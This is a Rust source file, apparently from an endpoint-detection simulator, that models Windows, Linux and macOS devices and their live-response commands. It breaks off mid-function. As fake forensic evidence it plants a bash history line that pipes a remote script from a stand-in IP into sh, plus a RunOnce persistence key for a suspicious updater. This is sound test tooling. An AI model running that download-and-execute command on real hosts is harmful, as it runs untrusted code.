//! One simulated device (Windows, Linux or macOS): processes, files and registry, and how
//! live-response commands, edrgate's helper scripts and arbitrary library scripts act on them.
//! Every machine starts with what a responder looks at first on its system (system binaries,
//! the hosts file, user profiles, the system processes, the autostart registry keys), not only
//! the demo's evidence.

use std::collections::BTreeMap;

use base64::Engine as _;
use edrgate_defender_helpers::{
    HELPER_MARKER, Helper, HelperEntry, HelperOutput, HelperProcess, HelperRegValue,
};
use serde_json::{Value, json};

use crate::api::ScriptResult;

/// Content of `C:\evidence\note.txt` on every device.
pub const NOTE_TXT: &[u8] = b"edrgate defender simulator evidence note\r\n";

/// The sensor's working folder `PutFile` drops library files into. The reference says only
/// "Files are saved in a working folder and are deleted when the device restarts by default"
/// (defender.md §3.1, run-live-response.md); the path is the sensor's `Downloads` folder under
/// its ProgramData directory, next to the `Temp\PSScriptOutputs` folder the RunScript
/// transcript names (§5 \[D\]) \[U: the folder name itself is not documented\].
pub const PUTFILE_WORKING_DIR: &str =
    r"C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\Downloads";

/// `errorHResult` values the simulator reports (Win32 HRESULTs as signed Int32, §4.2 [E]).
/// The reference has no real failing sample (§16); these are the Win32 codes of the failures.
pub(crate) const HR_FILE_NOT_FOUND: i32 = 0x8007_0002_u32 as i32;
pub(crate) const HR_ACCESS_DENIED: i32 = 0x8007_0005_u32 as i32;
pub(crate) const HR_TIMEOUT: i32 = 0x8007_05B4_u32 as i32;
/// A PowerShell terminating error (`throw`): the HResult of a .NET exception (`0x80131500`).
pub(crate) const HR_SCRIPT_THREW: i32 = 0x8013_1500_u32 as i32;

#[derive(Clone, Debug)]
pub(crate) struct Process {
    pub(crate) pid: u64,
    pub(crate) ppid: u64,
    pub(crate) name: String,
    pub(crate) path: String,
    pub(crate) user: String,
}

#[derive(Clone, Debug)]
pub(crate) struct Node {
    pub(crate) path: String,
    pub(crate) dir: bool,
    pub(crate) content: Vec<u8>,
}

#[derive(Clone, Debug, Default)]
pub(crate) struct RegKey {
    pub(crate) name: String,
    /// lower-case value name → (name, type, data)
    pub(crate) values: BTreeMap<String, (String, String, Value)>,
}

/// The system a machine runs, from its `osPlatform` (§10: `Windows10`, `Windows11`,
/// `WindowsServer2022`, `Linux`, `macOS`, …).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Family {
    Windows,
    Linux,
    MacOs,
}

impl Family {
    pub(crate) fn of(os_platform: &str) -> Family {
        match os_platform.to_ascii_lowercase().as_str() {
            "linux" => Family::Linux,
            "macos" => Family::MacOs,
            _ => Family::Windows,
        }
    }
}

/// The lines PowerShell's `Set-AuthenticodeSignature` appends around a script's signature
/// (about_Signing). The simulator does not verify the signature: a block is a signature.
const SIGNATURE_BEGIN: &str = "# SIG # Begin signature block";
const SIGNATURE_END: &str = "# SIG # End signature block";

/// Whether a script carries a signature block.
pub(crate) fn is_signed(source: &[u8]) -> bool {
    let text = String::from_utf8_lossy(source);
    text.find(SIGNATURE_BEGIN).is_some_and(|at| text[at..].contains(SIGNATURE_END))
}

/// PowerShell's refusal of an unsigned script under the `AllSigned` execution policy, which
/// the sensor starts library scripts with (`powershell.exe -ExecutionPolicy AllSigned …`, the
/// sensor's command line as published in gist johnjohnsp1/5850a4ed…) when the tenant does not
/// allow unsigned scripts. The text is PowerShell's `UnauthorizedAccess` message; that the
/// command then fails with it in `errors[]` is the simulator's reading \[U\].
pub(crate) fn unsigned_refusal(name: &str) -> String {
    let path = format!(
        r"C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{name}"
    );
    format!(
        "File {path} cannot be loaded. The file {path} is not digitally signed. You cannot run this script on the current system. For more information about running scripts and setting execution policy, see about_Execution_Policies at https:/go.microsoft.com/fwlink/?LinkID=135170."
    )
}

/// The pid of `WmiPrvSE.exe`, the parent of processes `Win32_Process.Create` starts (the
/// model does not list it itself).
const WMI_PROVIDER_HOST: u64 = 3344;

/// Whether a script starts its processes outside the live-response session's job object: by
/// WMI (`Win32_Process` `Create`, through `Invoke-CimMethod` / `Invoke-WmiMethod`) or a
/// scheduled task, whose processes the WMI or Task Scheduler service creates. A process a
/// script starts as its own child (`Process.Start`, `Start-Process`, `&`) is in the session's
/// job and is terminated when the session ends: "In a remote invocation, the remote session
/// ending automatically terminates processes launched via Start-Process"
/// (MicrosoftDocs/PowerShell-Docs#8020, explaining PowerShell/PowerShell#16001); "If you want
/// something to outlive the PSSession then the only 2 real ways I know off are using a
/// scheduled task [or] using `Win32_Process.Create` with `Invoke-CimMethod`"
/// (jborean93/pypsrp#106). Live response runs scripts in such a session \[I\]/\[U\].
pub(crate) fn starts_detached(source: &[u8]) -> bool {
    let text = String::from_utf8_lossy(source).to_ascii_lowercase();
    let wmi = text.contains("win32_process")
        && text.contains("create")
        && (text.contains("invoke-cimmethod") || text.contains("invoke-wmimethod"));
    wmi || text.contains("register-scheduledtask") || text.contains("schtasks")
}

/// Which edrgate helper a library script is: its content, or a signed copy of it (the content
/// followed by a signature block; line endings aside).
fn helper_of(source: &[u8]) -> Option<Helper> {
    if let Some(h) = Helper::from_source(source) {
        return Some(h);
    }
    let text = String::from_utf8_lossy(source);
    let text = text.trim_start_matches('\u{feff}');
    let at = text.find(SIGNATURE_BEGIN)?;
    let body = text[..at].replace("\r\n", "\n");
    Helper::ALL.into_iter().find(|h| h.source().trim_end() == body.trim_end())
}

#[derive(Clone, Debug)]
pub(crate) struct Endpoint {
    pub(crate) hostname: String,
    pub(crate) family: Family,
    pub(crate) processes: BTreeMap<u64, Process>,
    /// lower-case path → node
    pub(crate) files: BTreeMap<String, Node>,
    /// lower-case key → key
    pub(crate) registry: BTreeMap<String, RegKey>,
    next_pid: u64,
    /// Processes a script started as its own children during the live-response action now
    /// running: they are in the session's job object and die when it ends
    /// ([`Endpoint::end_session`]).
    session_bound: Vec<u64>,
}

/// What a live-response command did.
pub(crate) enum Outcome {
    /// Completed; the result blob (GetFile: gzip'ed file, RunScript: result JSON).
    Completed(Option<Vec<u8>>),
    Failed {
        errors: Vec<String>,
        hresult: i32,
    },
}

/// One run of an edrgate helper script, as the simulator's log records it.
#[derive(Clone, Debug)]
pub(crate) struct HelperRun {
    pub(crate) helper: Helper,
    /// The decoded `-p` parameters.
    pub(crate) params: Value,
    pub(crate) output: HelperOutput,
}

/// The map key of a path: Windows paths case-insensitively, POSIX ones (starting with `/`)
/// as they are.
fn key(path: &str) -> String {
    if path.starts_with('/') {
        let t = path.trim_end_matches('/');
        if t.is_empty() { "/".to_owned() } else { t.to_owned() }
    } else {
        path.trim_end_matches('\\').to_ascii_lowercase()
    }
}

impl Endpoint {
    /// The live-response action running here ended (finished, failed, timed out or was
    /// cancelled): its session's job object closes and the processes it holds die.
    pub(crate) fn end_session(&mut self) {
        for pid in std::mem::take(&mut self.session_bound) {
            self.processes.remove(&pid);
        }
    }

    pub(crate) fn new(hostname: &str, big_file_size: u64, family: Family) -> Self {
        let mut e = Endpoint {
            hostname: hostname.to_owned(),
            family,
            processes: BTreeMap::new(),
            files: BTreeMap::new(),
            registry: BTreeMap::new(),
            next_pid: 5000,
            session_bound: Vec::new(),
        };
        match family {
            Family::Windows => e.seed_windows(big_file_size),
            Family::Linux => e.seed_linux(big_file_size),
            Family::MacOs => e.seed_macos(big_file_size),
        }
        e
    }

    fn add_process(&mut self, pid: u64, ppid: u64, name: &str, path: &str, user: &str) {
        self.processes.insert(
            pid,
            Process { pid, ppid, name: name.into(), path: path.into(), user: user.into() },
        );
    }

    fn add_dir(&mut self, path: &str) {
        let path = if path.len() > 1 { path.trim_end_matches(['\\', '/']) } else { path };
        self.files
            .insert(key(path), Node { path: path.to_owned(), dir: true, content: Vec::new() });
    }

    fn add_file(&mut self, path: &str, content: Vec<u8>) {
        self.files.insert(key(path), Node { path: path.to_owned(), dir: false, content });
    }

    /// A registry key with its values, and its parent keys (so listings find it).
    fn add_key(&mut self, k: &str, values: Vec<(&str, &str, Value)>) {
        let mut acc = String::new();
        for part in k.split('\\') {
            if !acc.is_empty() {
                acc.push('\\');
            }
            acc.push_str(part);
            self.registry
                .entry(key(&acc))
                .or_insert_with(|| RegKey { name: acc.clone(), values: BTreeMap::new() });
        }
        if let Some(rk) = self.registry.get_mut(&key(k)) {
            for (n, t, d) in values {
                rk.values.insert(n.to_ascii_lowercase(), (n.into(), t.into(), d));
            }
        }
    }

    fn seed_windows(&mut self, big_file_size: u64) {
        let system = "NT AUTHORITY\\SYSTEM";
        let local = "NT AUTHORITY\\LOCAL SERVICE";
        let network = "NT AUTHORITY\\NETWORK SERVICE";
        let sys32 = |exe: &str| format!("C:\\Windows\\System32\\{exe}");
        for (pid, ppid, name, path, user) in [
            (4, 0, "System", String::new(), system),
            (104, 4, "Registry", String::new(), system),
            (388, 4, "smss.exe", sys32("smss.exe"), system),
            (520, 512, "csrss.exe", sys32("csrss.exe"), system),
            (612, 512, "wininit.exe", sys32("wininit.exe"), system),
            (628, 604, "csrss.exe", sys32("csrss.exe"), system),
            (668, 604, "winlogon.exe", sys32("winlogon.exe"), system),
            (700, 612, "lsass.exe", sys32("lsass.exe"), system),
            (812, 612, "services.exe", sys32("services.exe"), system),
            (904, 812, "svchost.exe", sys32("svchost.exe"), system),
            (968, 812, "svchost.exe", sys32("svchost.exe"), network),
            (1012, 812, "svchost.exe", sys32("svchost.exe"), local),
            (1096, 668, "dwm.exe", sys32("dwm.exe"), "Window Manager\\DWM-1"),
            (1532, 812, "spoolsv.exe", sys32("spoolsv.exe"), system),
            (
                2844,
                812,
                "MsMpEng.exe",
                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"
                    .into(),
                system,
            ),
            (
                2960,
                812,
                "MsSense.exe",
                "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe".into(),
                system,
            ),
            (3120, 3100, "explorer.exe", "C:\\Windows\\explorer.exe".into(), "CONTOSO\\alice"),
            (3388, 904, "taskhostw.exe", sys32("taskhostw.exe"), "CONTOSO\\alice"),
            (4242, 3120, "notepad.exe", sys32("notepad.exe"), "CONTOSO\\alice"),
            // The demo's suspicious process, the same on every simulator (pid, path), so one
            // request body acts alike on a Carbon Black, a Defender and a Cybereason device.
            (
                3012,
                3120,
                "updater.exe",
                "C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe".into(),
                "CONTOSO\\jdoe",
            ),
        ] {
            self.add_process(pid, ppid, name, &path, user);
        }
        for dir in [
            "C:\\",
            "C:\\Windows",
            "C:\\Windows\\System32",
            "C:\\Windows\\System32\\config",
            "C:\\Windows\\System32\\drivers",
            "C:\\Windows\\System32\\drivers\\etc",
            "C:\\Windows\\System32\\Tasks",
            "C:\\Windows\\System32\\winevt",
            "C:\\Windows\\System32\\winevt\\Logs",
            "C:\\Windows\\System32\\WindowsPowerShell",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            "C:\\Windows\\SysWOW64",
            "C:\\Windows\\Prefetch",
            "C:\\Windows\\Temp",
            "C:\\Program Files",
            "C:\\Program Files\\Windows Defender",
            "C:\\Program Files\\Windows Defender Advanced Threat Protection",
            "C:\\Program Files (x86)",
            "C:\\Users",
            "C:\\Users\\Default",
            "C:\\Users\\Public",
            "C:\\Users\\Public\\Documents",
            "C:\\evidence",
            "C:\\ProgramData",
            "C:\\ProgramData\\Microsoft",
            "C:\\ProgramData\\Microsoft\\Windows",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp",
            "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection",
            PUTFILE_WORKING_DIR,
        ] {
            self.add_dir(dir);
        }
        for user in ["alice", "jdoe"] {
            for sub in [
                "",
                "\\Desktop",
                "\\Documents",
                "\\Downloads",
                "\\AppData",
                "\\AppData\\Local",
                "\\AppData\\Local\\Temp",
                "\\AppData\\Roaming",
                "\\AppData\\Roaming\\Microsoft",
                "\\AppData\\Roaming\\Microsoft\\Windows",
                "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu",
                "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs",
                "\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
            ] {
                self.add_dir(&format!("C:\\Users\\{user}{sub}"));
            }
            self.add_file(&format!("C:\\Users\\{user}\\NTUSER.DAT"), b"regf".to_vec());
        }
        let big: Vec<u8> = (0..big_file_size).map(|i| (i % 251) as u8).collect();
        let pe = |name: &str| format!("MZ\x00\x00{name}").into_bytes();
        for (path, content) in [
            ("C:\\evidence\\note.txt".to_owned(), NOTE_TXT.to_vec()),
            ("C:\\evidence\\big.bin".to_owned(), big),
            ("C:\\Windows\\explorer.exe".to_owned(), pe("explorer")),
            ("C:\\Windows\\System32\\notepad.exe".to_owned(), b"MZ\x90\x00notepad".to_vec()),
            (
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".to_owned(),
                pe("powershell"),
            ),
            (
                "C:\\Windows\\System32\\drivers\\etc\\hosts".to_owned(),
                b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n#\r\n# localhost name resolution is handled within DNS itself.\r\n#\t127.0.0.1       localhost\r\n#\t::1             localhost\r\n".to_vec(),
            ),
            (
                "C:\\Windows\\System32\\drivers\\etc\\services".to_owned(),
                b"echo                7/tcp\r\nftp                21/tcp\r\nssh                22/tcp\r\nhttp               80/tcp    www\r\n".to_vec(),
            ),
            ("C:\\Windows\\System32\\drivers\\tcpip.sys".to_owned(), pe("tcpip")),
            ("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx".to_owned(), b"ElfFile\x00".to_vec()),
            ("C:\\Windows\\System32\\winevt\\Logs\\System.evtx".to_owned(), b"ElfFile\x00".to_vec()),
            ("C:\\Windows\\System32\\winevt\\Logs\\Application.evtx".to_owned(), b"ElfFile\x00".to_vec()),
            (
                "C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-PowerShell%4Operational.evtx"
                    .to_owned(),
                b"ElfFile\x00".to_vec(),
            ),
            ("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe".to_owned(), b"MZ\x90\x00updater".to_vec()),
            ("C:\\Windows\\System32\\config\\SAM".to_owned(), b"regf".to_vec()),
            ("C:\\Windows\\System32\\config\\SYSTEM".to_owned(), b"regf".to_vec()),
            ("C:\\Windows\\System32\\config\\SOFTWARE".to_owned(), b"regf".to_vec()),
            ("C:\\Windows\\System32\\config\\SECURITY".to_owned(), b"regf".to_vec()),
        ] {
            self.add_file(&path, content);
        }
        for exe in [
            "cmd.exe",
            "smss.exe",
            "csrss.exe",
            "wininit.exe",
            "winlogon.exe",
            "services.exe",
            "lsass.exe",
            "svchost.exe",
            "dwm.exe",
            "spoolsv.exe",
            "taskhostw.exe",
            "rundll32.exe",
            "reg.exe",
            "schtasks.exe",
            "kernel32.dll",
            "ntdll.dll",
        ] {
            self.add_file(&format!("C:\\Windows\\System32\\{exe}"), pe(exe));
        }
        let host = self.hostname.split('.').next().unwrap_or_default().to_ascii_uppercase();
        let cv = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion";
        let user_run = "HKU\\S-1-5-21-1004-1001\\Software\\Microsoft\\Windows\\CurrentVersion";
        for (k, values) in [
            ("HKLM\\SOFTWARE\\Classes", vec![]),
            ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", vec![]),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
                vec![
                    ("ProductName", "REG_SZ", json!("Windows 10 Enterprise")),
                    ("DisplayVersion", "REG_SZ", json!("23H2")),
                    ("CurrentBuild", "REG_SZ", json!("22631")),
                    ("RegisteredOwner", "REG_SZ", json!("Contoso")),
                ],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
                vec![
                    ("Shell", "REG_SZ", json!("explorer.exe")),
                    ("Userinit", "REG_SZ", json!("C:\\Windows\\system32\\userinit.exe,")),
                ],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
                vec![],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                vec![(
                    "SecurityHealth",
                    "REG_EXPAND_SZ",
                    json!("%windir%\\system32\\SecurityHealthSystray.exe"),
                )],
            ),
            (
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
                vec![(
                    "Updater",
                    "REG_SZ",
                    json!("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe"),
                )],
            ),
            ("HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", vec![]),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\ComputerName\\ComputerName",
                vec![("ComputerName", "REG_SZ", json!(host))],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Sense",
                vec![
                    ("Start", "REG_DWORD", json!(2)),
                    (
                        "ImagePath",
                        "REG_EXPAND_SZ",
                        json!(
                            "\"%ProgramFiles%\\Windows Defender Advanced Threat Protection\\MsSense.exe\""
                        ),
                    ),
                ],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
                vec![("Start", "REG_DWORD", json!(2))],
            ),
            (
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog",
                vec![("Start", "REG_DWORD", json!(2))],
            ),
            ("HKU\\.DEFAULT\\Software\\Microsoft", vec![]),
        ] {
            self.add_key(k, values);
        }
        self.add_key(
            &format!("{cv}\\Policies\\System"),
            vec![("EnableLUA", "REG_DWORD", json!(1))],
        );
        self.add_key(&format!("{user_run}\\Run"), vec![]);
        self.add_key(&format!("{user_run}\\RunOnce"), vec![]);
    }

    fn seed_linux(&mut self, big_file_size: u64) {
        for (pid, ppid, name, path, user) in [
            (1, 0, "systemd", "/usr/lib/systemd/systemd", "root"),
            (2, 0, "kthreadd", "", "root"),
            (412, 1, "systemd-journald", "/usr/lib/systemd/systemd-journald", "root"),
            (598, 1, "systemd-logind", "/usr/lib/systemd/systemd-logind", "root"),
            (601, 1, "rsyslogd", "/usr/sbin/rsyslogd", "syslog"),
            (655, 1, "cron", "/usr/sbin/cron", "root"),
            (702, 1, "sshd", "/usr/sbin/sshd", "root"),
            (880, 1, "wdavdaemon", "/opt/microsoft/mdatp/sbin/wdavdaemon", "root"),
            (1433, 702, "sshd", "/usr/sbin/sshd", "jdoe"),
            (1510, 1433, "bash", "/usr/bin/bash", "jdoe"),
        ] {
            self.add_process(pid, ppid, name, path, user);
        }
        for dir in [
            "/",
            "/bin",
            "/boot",
            "/dev",
            "/etc",
            "/etc/cron.d",
            "/etc/ssh",
            "/etc/systemd",
            "/etc/systemd/system",
            "/home",
            "/home/jdoe",
            "/home/jdoe/.ssh",
            "/opt",
            "/opt/microsoft",
            "/opt/microsoft/mdatp",
            "/opt/microsoft/mdatp/sbin",
            "/proc",
            "/root",
            "/tmp",
            "/usr",
            "/usr/bin",
            "/usr/lib",
            "/usr/sbin",
            "/var",
            "/var/log",
            "/var/tmp",
            "/evidence",
        ] {
            self.add_dir(dir);
        }
        let elf = |name: &str| format!("\x7fELF{name}").into_bytes();
        let big: Vec<u8> = (0..big_file_size).map(|i| (i % 251) as u8).collect();
        let host = self.hostname.clone();
        for (path, content) in [
            ("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsyslog:x:104:110::/home/syslog:/usr/sbin/nologin\nsshd:x:110:65534::/run/sshd:/usr/sbin/nologin\njdoe:x:1000:1000:John Doe,,,:/home/jdoe:/bin/bash\n".to_vec()),
            ("/etc/group", b"root:x:0:\nsudo:x:27:jdoe\njdoe:x:1000:\n".to_vec()),
            ("/etc/hosts", format!("127.0.0.1 localhost\n127.0.1.1 {host}\n::1 localhost ip6-localhost ip6-loopback\n").into_bytes()),
            ("/etc/hostname", format!("{host}\n").into_bytes()),
            ("/etc/os-release", b"PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\n".to_vec()),
            ("/etc/crontab", b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n".to_vec()),
            ("/etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n".to_vec()),
            ("/var/log/syslog", format!("Jan  5 08:00:01 {host} systemd[1]: Started Microsoft Defender for Endpoint.\nJan  5 08:17:01 {host} CRON[2211]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)\n").into_bytes()),
            ("/var/log/auth.log", format!("Jan  5 08:02:11 {host} sshd[1433]: Accepted publickey for jdoe from 10.0.0.5 port 52144 ssh2\n").into_bytes()),
            ("/home/jdoe/.bash_history", b"ls -la\nsudo -l\ncurl -s http://198.51.100.7/x.sh | sh\n".to_vec()),
            ("/home/jdoe/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEdrgateSimKey jdoe@laptop\n".to_vec()),
            ("/root/.bash_history", b"apt update\n".to_vec()),
            ("/evidence/note.txt", NOTE_TXT.to_vec()),
            ("/evidence/big.bin", big),
        ] {
            self.add_file(path, content);
        }
        for bin in [
            "/bin/bash",
            "/bin/sh",
            "/usr/bin/bash",
            "/usr/bin/python3",
            "/usr/bin/curl",
            "/usr/sbin/sshd",
            "/usr/sbin/cron",
            "/usr/sbin/rsyslogd",
            "/usr/lib/systemd/systemd",
            "/opt/microsoft/mdatp/sbin/wdavdaemon",
        ] {
            let name = bin.rsplit('/').next().unwrap_or_default();
            self.add_file(bin, elf(name));
        }
    }

    fn seed_macos(&mut self, big_file_size: u64) {
        let defender = "/Library/Application Support/Microsoft/Defender";
        for (pid, ppid, name, path, user) in [
            (1, 0, "launchd", "/sbin/launchd".to_owned(), "root"),
            (88, 1, "logd", "/usr/libexec/logd".to_owned(), "root"),
            (
                152,
                1,
                "WindowServer",
                "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer"
                    .to_owned(),
                "_windowserver",
            ),
            (
                160,
                1,
                "loginwindow",
                "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow"
                    .to_owned(),
                "alice",
            ),
            (412, 1, "wdavdaemon", format!("{defender}/wdavdaemon"), "root"),
            (
                620,
                1,
                "Finder",
                "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder".to_owned(),
                "alice",
            ),
            (910, 1, "zsh", "/bin/zsh".to_owned(), "alice"),
        ] {
            self.add_process(pid, ppid, name, &path, user);
        }
        for dir in [
            "/",
            "/Applications",
            "/Applications/Safari.app",
            "/Applications/Microsoft Defender.app",
            "/Library",
            "/Library/Application Support",
            "/Library/Application Support/Microsoft",
            defender,
            "/Library/LaunchAgents",
            "/Library/LaunchDaemons",
            "/System",
            "/System/Library",
            "/System/Library/CoreServices",
            "/System/Library/CoreServices/Finder.app",
            "/System/Library/LaunchDaemons",
            "/Users",
            "/Users/Shared",
            "/Users/alice",
            "/Users/alice/Desktop",
            "/Users/alice/Documents",
            "/Users/alice/Downloads",
            "/Users/alice/Library",
            "/Users/alice/Library/LaunchAgents",
            "/bin",
            "/etc",
            "/private",
            "/private/etc",
            "/private/var",
            "/private/var/log",
            "/tmp",
            "/usr",
            "/usr/bin",
            "/var",
            "/var/log",
            "/evidence",
        ] {
            self.add_dir(dir);
        }
        let macho = |name: &str| [&[0xcf, 0xfa, 0xed, 0xfe][..], name.as_bytes()].concat();
        let big: Vec<u8> = (0..big_file_size).map(|i| (i % 251) as u8).collect();
        let host = self.hostname.clone();
        let passwd = b"nobody:*:-2:-2:Unprivileged User:/var/empty:/usr/bin/false\nroot:*:0:0:System Administrator:/var/root:/bin/sh\n_windowserver:*:88:88:WindowServer:/var/empty:/usr/bin/false\n".to_vec();
        let hosts =
            b"127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n"
                .to_vec();
        let log =
            format!("Jan  5 08:00:01 {host} syslogd[88]: ASL Sender Statistics\n").into_bytes();
        for (path, content) in [
            ("/etc/passwd", passwd.clone()),
            ("/private/etc/passwd", passwd),
            ("/etc/hosts", hosts.clone()),
            ("/private/etc/hosts", hosts),
            ("/var/log/system.log", log.clone()),
            ("/private/var/log/system.log", log),
            ("/var/log/install.log", b"Jan  5 08:00:00 installer[412]: Microsoft Defender installed\n".to_vec()),
            ("/System/Library/CoreServices/SystemVersion.plist", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>ProductName</key><string>macOS</string><key>ProductVersion</key><string>14.4</string></dict></plist>\n".to_vec()),
            ("/Users/alice/.zsh_history", b": 1704441600:0;ls -la\n: 1704441610:0;open ~/Downloads\n".to_vec()),
            ("/evidence/note.txt", NOTE_TXT.to_vec()),
            ("/evidence/big.bin", big),
        ] {
            self.add_file(path, content);
        }
        for bin in [
            "/bin/bash",
            "/bin/zsh",
            "/bin/sh",
            "/usr/bin/curl",
            "/usr/bin/python3",
            "/sbin/launchd",
        ] {
            let name = bin.rsplit('/').next().unwrap_or_default();
            self.add_file(bin, macho(name));
        }
        self.add_file(&format!("{defender}/wdavdaemon"), macho("wdavdaemon"));
    }

    pub(crate) fn file(&self, path: &str) -> Option<&Node> {
        self.files.get(&key(path))
    }

    fn denied(path: &str) -> bool {
        key(path).starts_with("c:\\windows\\system32\\config\\")
    }

    /// `GetFile`: the content, gzip'ed (§5).
    pub(crate) fn get_file(&self, path: &str) -> Outcome {
        if Self::denied(path) {
            return Outcome::Failed {
                errors: vec![format!("Access is denied. ({path})")],
                hresult: HR_ACCESS_DENIED,
            };
        }
        match self.file(path) {
            Some(n) if !n.dir => Outcome::Completed(Some(gzip(&n.content))),
            Some(_) => Outcome::Failed {
                errors: vec![format!("{path} is a directory")],
                hresult: HR_FILE_NOT_FOUND,
            },
            None => Outcome::Failed {
                errors: vec![format!("File {path} was not found on the device")],
                hresult: HR_FILE_NOT_FOUND,
            },
        }
    }

    /// `PutFile`: drops the library file into the sensor's working folder (§3.1).
    pub(crate) fn put_file(&mut self, name: &str, content: Vec<u8>) -> Outcome {
        let path = format!("{PUTFILE_WORKING_DIR}\\{name}");
        self.files.insert(key(&path), Node { path, dir: false, content });
        Outcome::Completed(None)
    }

    /// `RunScript`: a script whose content is one of edrgate's helpers (byte for byte, whatever
    /// its library name) acts on the model and prints its result line; other scripts run
    /// through [`interpret`]. The blob is the §5 JSON with the transcript banner and trailing
    /// NULs of the doc sample.
    pub(crate) fn run_script(
        &mut self,
        name: &str,
        args: &str,
        source: &[u8],
    ) -> (Outcome, Option<HelperRun>) {
        let mut run = None;
        // edrgate's helpers are PowerShell: on Linux and macOS, where live response runs
        // shell scripts, they are just another script (printing no result line) [U].
        let helper = if self.family == Family::Windows { helper_of(source) } else { None };
        let (exit_code, output, errors) = match helper {
            Some(helper) => {
                let params = decode_params(args);
                let out = self.helper(helper, &params, source);
                // The scripts `exit 1` after a failure; Defender reports the exit code in the
                // result and the command still completes (only a terminating error fails it).
                let code = if out.ok { 0 } else { 1 };
                let line = serde_json::to_string(&out).unwrap_or_default();
                run = Some(HelperRun { helper, params, output: out });
                (code, format!("{HELPER_MARKER}{line}\n"), String::new())
            }
            None => match interpret(source, args, &self.hostname) {
                Script::Done { exit_code, output, errors } => (exit_code, output, errors),
                Script::Threw(message) => {
                    return (
                        Outcome::Failed { errors: vec![message], hresult: HR_SCRIPT_THREW },
                        None,
                    );
                }
            },
        };
        let blob = ScriptResult {
            script_name: name.to_owned(),
            exit_code,
            script_output: format!(
                "Transcript started, output file is C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Temp\\PSScriptOutputs\\PSScript_Transcript_{{{}}}.txt\n{output}\u{0}\u{0}\u{0}",
                uuid::Uuid::now_v7()
            ),
            script_errors: errors,
        };
        (Outcome::Completed(Some(serde_json::to_vec(&blob).unwrap_or_default())), run)
    }

    fn helper(&mut self, helper: Helper, p: &Value, source: &[u8]) -> HelperOutput {
        let s = |k: &str| p.get(k).and_then(Value::as_str).unwrap_or_default().to_owned();
        let result = match helper {
            Helper::ProcessList => Ok(HelperOutput {
                ok: true,
                processes: Some(
                    self.processes
                        .values()
                        .map(|pr| HelperProcess {
                            pid: pr.pid,
                            ppid: Some(pr.ppid),
                            name: pr.name.clone(),
                            path: (!pr.path.is_empty()).then(|| pr.path.clone()),
                            command_line: (!pr.path.is_empty()).then(|| format!("\"{}\"", pr.path)),
                            user: Some(pr.user.clone()),
                            sid: Some(if pr.user.starts_with("NT AUTHORITY") {
                                "S-1-5-18".into()
                            } else {
                                "S-1-5-21-1004-1001".into()
                            }),
                            started: Some(1_700_000_000 + pr.pid as i64),
                        })
                        .collect(),
                ),
                ..HelperOutput::default()
            }),
            Helper::ListDirectory => self.list(&s("path")),
            Helper::KillProcess => {
                let pid = p.get("pid").and_then(Value::as_u64).unwrap_or(0);
                if pid == 4 || pid == 700 {
                    Err((
                        "access_denied",
                        format!("Access is denied to process {pid}"),
                        "0x80070005",
                    ))
                } else if self.processes.remove(&pid).is_some() {
                    Ok(HelperOutput { ok: true, ..HelperOutput::default() })
                } else {
                    Err(("not_found", format!("No process with pid {pid}"), "0x80070057"))
